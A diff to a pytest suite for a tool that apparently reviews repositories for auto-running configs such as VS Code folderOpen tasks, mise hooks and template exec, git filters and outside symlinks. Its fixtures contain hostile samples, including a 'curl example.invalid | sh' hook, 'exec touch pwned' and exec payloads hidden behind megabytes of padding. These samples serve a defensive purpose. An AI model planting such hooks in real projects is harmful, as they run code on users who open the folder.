@@ -38,10 +38,15 @@ def test_links_out_are_never_followed(project: Project) -> None:
         "tasks.json",
         f'{{"tasks": [{{"command": "{MARKER}", "runOptions": {{"runOn": "folderOpen"}}}}]}}\n',
     )
+    workspace = _outside_file(
+        out,
+        "app.code-workspace",
+        f'{{"tasks": {{"tasks": [{{"command": "{MARKER}", '
+        '"runOptions": {"runOn": "folderOpen"}}]}}\n',
+    )
+    mise = _outside_file(out, "mise.toml", f'[hooks]\nenter = "{MARKER}"\n')
     attributes = _outside_file(out, "attributes", f"* filter={MARKER}\n")
     other_repo = _outside_file(out, "repo/.git/config", f"[core]\n\tpager = {MARKER}\n").parent
-    _outside_file(out, "info/exclude", f"{MARKER}\n")
-    _outside_file(out, "rebase/git-rebase-todo", f"exec {MARKER}\n")
 
     sub = project.nested("sub")
     (sub / ".git" / "config").unlink()
@@ -49,60 +54,82 @@ def test_links_out_are_never_followed(project: Project) -> None:
     project.link(".envrc", script)
     project.link(".gitmodules", modules)
     project.link(".vscode/tasks.json", tasks)
+    project.link("docs/.vscode/tasks.json", tasks)
+    project.link("app.code-workspace", workspace)
+    project.link("mise.toml", mise)
+    project.link(".config/mise/config.toml", mise)
     project.link(".gitattributes", attributes)
     project.link(".pre-commit-config.yaml", script)
     project.link("other/.git", other_repo)
     project.write("gitfile/.git", f"gitdir: {other_repo}\n")
-    project.link(".git/objects/info/alternates", config)
-    (project.root / ".git" / "info" / "exclude").unlink()
-    (project.root / ".git" / "info").rmdir()
-    project.link(".git/info", out / "info")
-    project.link(".git/rebase-merge", out / "rebase")
+    project.link("inside", out)  # a linked directory: nothing below it is reviewed
+    _outside_file(out, ".envrc", f"echo {MARKER}\n")
 
     found = project.review()
 
     assert MARKER not in _dump(found)
-    assert {item.path for item in of_kind(found, "git-dir-link")} == {
-        ".git/objects/info/alternates",
-        ".git/info",
-        ".git/rebase-merge",
-    }
-    assert {item.path for item in of_kind(found, "outside-symlink")} >= {
+    assert {item.path for item in of_kind(found, "outside-symlink")} == {
         ".envrc",
         ".gitmodules",
         ".vscode/tasks.json",
+        "docs/.vscode/tasks.json",
+        "app.code-workspace",
+        "mise.toml",
+        ".config/mise/config.toml",
         ".gitattributes",
         ".pre-commit-config.yaml",
         "other/.git",
+        "inside",
     }
     assert {(item.path, item.severity) for item in of_kind(found, "nested-repository")} == {
         ("sub/.git/config", "reads-outside"),
         ("other/", "reads-outside"),
         ("gitfile/", "reads-outside"),
     }
-    for kind in ("alternates", "git-info-file", "sequencer", "vscode-task", "gitmodules"):
+    for kind in ("vscode-task", "mise", "gitmodules"):
         assert of_kind(found, kind) == [], kind
+
+
+def test_the_git_directory_is_never_reviewed(project: Project) -> None:
+    """It is the human's (the agent commits to a git directory of its own)."""
+    project.link(".git/packed-refs", project.outside / "secret")
+    os.mkfifo(project.root / ".git" / "MERGE_HEAD")
+    project.write(".git/objects/info/alternates", f"{project.outside}\n")
+    project.write(".git/info/attributes", "* filter=evil\n")
+    project.write(".git/rebase-merge/git-rebase-todo", "exec touch pwned\n")
+    project.write(".git/.envrc", "echo hi\n")
+    project.write(".git/mise.toml", '[hooks]\nenter = "x"\n')
+    assert project.review() == []
 
 
 @pytest.mark.timeout(60)
 def test_fifos_never_block(project: Project) -> None:
-    for relative in (".envrc", ".gitattributes", ".vscode/tasks.json", ".gitmodules", "a/.git"):
+    fifos = (
+        ".envrc",
+        ".gitattributes",
+        ".vscode/tasks.json",
+        "a/.vscode/tasks.json",
+        "app.code-workspace",
+        "mise.toml",
+        ".mise/config.toml",
+        ".tool-versions",
+        ".gitmodules",
+        "a/.git",
+    )
+    for relative in fifos:
         path = project.root / relative
         path.parent.mkdir(parents=True, exist_ok=True)
         os.mkfifo(path)
     sub = project.nested("sub")
     (sub / ".git" / "config").unlink()
     os.mkfifo(sub / ".git" / "config")
-    os.mkfifo(project.root / ".git" / "MERGE_HEAD")
-    os.mkfifo(project.root / ".git" / "objects" / "info" / "alternates")
+    project.link("linked.code-workspace", "app.code-workspace")  # a link to a FIFO
 
     found = project.review()
 
-    assert ("sub/.git/config", "review") in {(i.path, i.severity) for i in found}
-    assert {item.path for item in of_kind(found, "git-dir-link")} == {
-        ".git/MERGE_HEAD",
-        ".git/objects/info/alternates",
-    }
+    assert [(i.kind, i.path, i.severity) for i in found] == [
+        ("nested-repository", "sub/.git/config", "review")
+    ]
 
 
 def test_terminal_control_characters_are_escaped(project: Project) -> None:
@@ -154,3 +181,46 @@ def test_a_hostile_tasks_file_does_not_raise(project: Project) -> None:
     (item,) = of_kind(project.review(), "vscode-task")
     assert "does not parse" in item.summary
     assert all(len(line) <= 300 for line in item.details)
+
+
+def test_hostile_mise_files_do_not_raise(project: Project) -> None:
+    project.write("a/mise.toml", "x = " + "[" * 100_000 + "\n")  # deeper than any parser
+    deep = "[" * 200 + "\"{{ exec(command='deep') }}\"" + "]" * 200
+    project.write("b/mise.toml", f"[env]\nX = {deep}\n")  # parses, and is walked to the end
+    project.write("c/mise.toml", 'x = "' + "{{ exec(command='" * 60_000 + '"\n')
+    found = {item.path: item for item in of_kind(project.review(), "mise")}
+    assert found["a/mise.toml"].severity == "review"
+    assert "does not parse here" in found["a/mise.toml"].summary
+    assert found["b/mise.toml"].summary.startswith("mise runs `deep` (a template's exec)")
+    assert found["c/mise.toml"].severity == "runs-code"
+
+
+@pytest.mark.timeout(60)
+def test_what_hides_past_the_first_mib_is_not_missed(project: Project) -> None:
+    """Only the first MiB is read: a config longer than that is one to look at."""
+    padding = "#" * (2 * 1024 * 1024) + "\n"
+    project.write("mise.toml", padding + '[hooks]\nenter = "curl example.invalid | sh"\n')
+    project.write(
+        "app.code-workspace",
+        '{"tasks": {"tasks": [\n'
+        + " " * (2 * 1024 * 1024)
+        + '{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}}\n',
+    )
+    found = {item.kind: item for item in project.review()}
+    assert (found["mise"].severity, found["mise"].path) == ("review", "mise.toml")
+    assert "larger than 1 MiB" in found["mise"].summary
+    assert (found["vscode-task"].severity, found["vscode-task"].path) == (
+        "review",
+        "app.code-workspace",
+    )
+    assert "larger than 1 MiB" in found["vscode-task"].summary
+
+
+def test_padding_does_not_hide_a_template(project: Project) -> None:
+    padding = ", ".join('"x"' for _ in range(50_000))
+    project.write(
+        "mise.toml", f"[vars]\npad = [{padding}]\n[env]\nX = \"{{{{ exec(command='late') }}}}\"\n"
+    )
+    assert [item.summary for item in of_kind(project.review(), "mise")] == [
+        "mise runs `late` (a template's exec) when you enter the project (mise activated)"
+    ]
